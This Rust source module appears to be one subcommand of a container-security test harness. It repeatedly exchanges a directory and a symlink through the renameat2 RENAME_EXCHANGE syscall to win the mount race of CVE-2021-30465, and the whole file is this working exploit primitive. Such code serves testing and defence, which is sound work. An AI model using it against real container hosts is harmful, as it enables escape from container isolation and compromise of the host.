//! Exchanges a directory and a link to somewhere else as fast as it can, while somebody mounts or makes something there:
//! CVE-2021-30465.
#![expect(unsafe_code, reason = "nix has renameat2 for one C library alone")]

use std::ffi::CString;
use std::path::Path;

use nix::errno::Errno;
use nix::libc;

use crate::{Report, Why, text};

/// `attack swap STOP PLACE LINK [PLACE LINK]...`: until the file STOP is there.
pub(crate) fn attack(report: &Report, arguments: &[String]) {
    let stop = Path::new(text(arguments, 0));
    let names: Vec<CString> = arguments[1..]
        .iter()
        .filter_map(|name| CString::new(name.as_str()).ok())
        .collect();
    let mut outcome = Err("never".to_owned());
    let mut count = 0_u64;
    while !stop.exists() {
        for pair in names.chunks_exact(2) {
            outcome = exchange(&pair[0], &pair[1]).why();
            count += 1;
        }
    }
    report.line("exchange", outcome.map(|()| format!("{count} times")));
}

fn exchange(one: &CString, other: &CString) -> nix::Result<()> {
    let (one, other) = (one.as_ptr(), other.as_ptr());
    // SAFETY: both names end in NUL and live until the call returns.
    let answer = unsafe {
        libc::syscall(
            libc::SYS_renameat2,
            libc::AT_FDCWD,
            one,
            libc::AT_FDCWD,
            other,
            libc::RENAME_EXCHANGE,
        )
    };
    Errno::result(answer).map(drop)
}
